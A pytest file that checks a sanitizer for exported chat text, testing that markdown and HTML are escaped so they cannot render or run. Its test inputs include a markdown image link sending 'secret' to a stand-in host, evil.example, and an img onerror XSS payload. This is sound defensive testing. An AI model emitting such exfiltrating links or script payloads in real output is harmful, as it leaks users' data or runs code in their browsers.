"""Nothing in an exported text acts by itself."""

import pytest

from apps.chat import inert


class TestText:
    @pytest.mark.parametrize(
        ("written", "expected"),
        [
            ("![x](https://evil.example/?q=secret)", "\\![x](https://evil.example/?q=secret)"),
            ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
            ("a < b and <script>", "a < b and \\<script>"),
            ("<!-- hidden --> </div>", "\\<!-- hidden --> \\</div>"),
            ("plain *text*", "plain *text*"),
        ],
    )
    def test_is_disarmed(self, written: str, expected: str) -> None:
        assert inert.text(written, keeps_code=True) == expected

    def test_keeps_code_as_it_is(self) -> None:
        written = "Look:\n```html\n<img src=x>\n```\n<b>"
        assert inert.text(written, keeps_code=True) == "Look:\n```html\n<img src=x>\n```\n\\<b>"

    def test_closes_code_that_was_left_open(self) -> None:
        assert inert.text("```\n<b>", keeps_code=True) == "```\n<b>\n```"

    @pytest.mark.parametrize("written", ["- ```\n  ```\n![x](y)", " ```\n```\n![x](y)", "> ~~~\n![x](y)"])
    def test_trusts_no_code_whose_end_is_unclear(self, written: str) -> None:
        assert not inert.has_clear_code(written)
        assert "\\![x](y)" in inert.text(written, keeps_code=False)

    def test_of_a_line_means_nothing_to_markdown(self) -> None:
        assert inert.line("# A\n[x](y) <b>") == "\\# A \\[x\\]\\(y\\) \\<b\\>"
